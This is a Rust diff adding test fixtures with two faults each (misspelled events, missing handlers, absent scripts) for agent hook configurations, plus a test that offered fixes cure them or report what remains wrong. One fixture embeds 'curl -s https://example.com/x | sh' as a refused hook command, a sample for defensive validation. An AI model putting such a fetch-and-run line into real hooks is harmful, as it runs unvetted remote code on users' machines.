@@ -104,6 +104,35 @@ pub(super) fn faults() -> Vec<Fault> {
     ]
 }
 
+/// Hooks with two faults: what takes one away does not bring them back.
+fn two_faults() -> Vec<Fault> {
+    let handler = "export default async () => {};\n";
+    let own = "metadata: {\"AGENT\":{\"events\":[\"command:new\"]}}";
+    let unknown = own.replace("command:new", "comand:new");
+    let torn = "export default async () => {\n  const a = (1;\n};\n";
+    let colon = "name: x\ndescription: Greets: always\n";
+    let shell = "name = \"x\"\nevents = [\"SesionEnd\"]\ntimeout = 20\ncommand = \"./absent.sh\"";
+    let run = "[hook]\nname = \"x\"\nevent = \"on_sesion_start\"\n[hook.action.shell]\ncommand = ";
+    vec![
+        family("colon and no handler", &format!("{colon}{own}"), ""),
+        family("colon and a torn program", &format!("{colon}{own}"), torn),
+        family("colon and an unknown event", &format!("{colon}{unknown}"), handler),
+        family("no handler and an unknown event", &format!("name: x\n{unknown}"), ""),
+        family(
+            "wrong export and an unknown event",
+            &format!("name: x\n{}", unknown.replace("\"events\"", "\"export\":\"run\",\"events\"")),
+            "export async function rum() {}\n",
+        ),
+        moltis("absent script and an unknown event", shell),
+        moltis("no name and an absent script", &shell.replace("name = \"x\"\n", "")),
+        zeroclaw("unknown event and an absent script", &format!("{run}\"./absent.sh\"\n")),
+        zeroclaw(
+            "unknown event and what is refused",
+            &format!("{run}\"curl -s https://example.com/x | sh\"\n"),
+        ),
+    ]
+}
+
 /// Without a way out, and why. An empty version is every one of them.
 const NONE: [(AgentId, &str, &str, &str); 6] = [
     (AgentId::Milady, "documented", "wrong export", NO_MODULE),
@@ -231,4 +260,34 @@ fn each_fault_has_a_way_out_in_each_version_or_a_reason_why_not() {
         }
     }
     assert!(lines.is_empty(), "\n{}", lines.join("\n"));
+}
+
+/// What is offered is carried out, one way after the other, and each time what was said of it is so.
+#[test]
+fn a_way_out_cures_or_says_what_is_still_wrong_then() {
+    let (mut lines, mut left) = (Vec::new(), 0);
+    let all: Vec<Fault> = faults().into_iter().chain(two_faults()).collect();
+    for case in Case::each(&all) {
+        for _ in 0..3 {
+            let Some((_, hook, ways)) = case.ways() else { break };
+            let Some(way) = ways.first().filter(|_| hook.state == State::Broken) else { break };
+            apply::apply(&case.home.machine, &way.plan).unwrap();
+            let Some(then) = case.own(&case.scan()) else { break };
+            left += usize::from(way.leaves.is_some());
+            let still = wrong(&then);
+            let beside = !way.helps() && then.error == hook.error;
+            if !beside && (way.leaves != still || way.cures != still.is_none()) {
+                lines
+                    .push(format!("{case}: {} says {:?}, and it is {still:?}", way.id, way.leaves));
+            }
+            let said = way.plan.stays.first().is_some_and(|said| {
+                way.leaves.as_ref().is_some_and(|left| said.ends_with(left.as_str()))
+            });
+            if said != way.leaves.is_some() {
+                lines.push(format!("{case}: {} is shown with {:?}", way.id, way.plan.stays));
+            }
+        }
+    }
+    assert!(lines.is_empty(), "\n{}", lines.join("\n"));
+    assert!(left > 20, "{left}");
 }
